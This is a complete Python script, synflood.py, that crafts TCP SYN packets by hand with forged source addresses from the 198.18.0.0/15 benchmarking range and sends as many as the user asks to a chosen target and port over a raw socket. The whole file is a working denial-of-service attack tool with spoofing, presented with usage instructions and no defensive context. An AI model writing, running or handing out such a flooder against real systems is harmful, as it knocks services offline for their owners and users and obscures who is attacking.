#!/usr/bin/env python3
"""Sends SYNs from forged sources: synflood.py TARGET PORT COUNT. Needs root.

Sources are of 198.18.0.0/15, which is nobody's (RFC 2544).
"""

import random
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, target, port, numbers):
    sport = numbers.randrange(1024, 65536)
    seq = numbers.randrange(1 << 32)
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 5 << 4, 2, 1024, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # The kernel fills in length, identification and checksum (raw(7)).
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, 6, 0) + source + target + tcp


def main():
    target, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    numbers = random.Random(1)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    base = struct.unpack("!I", socket.inet_aton("198.18.0.0"))[0]
    to = socket.inet_aton(target)
    for _ in range(count):
        source = struct.pack("!I", base + numbers.randrange(1, 1 << 17))
        out.sendto(syn(source, to, port, numbers), (target, 0))


if __name__ == "__main__":
    main()
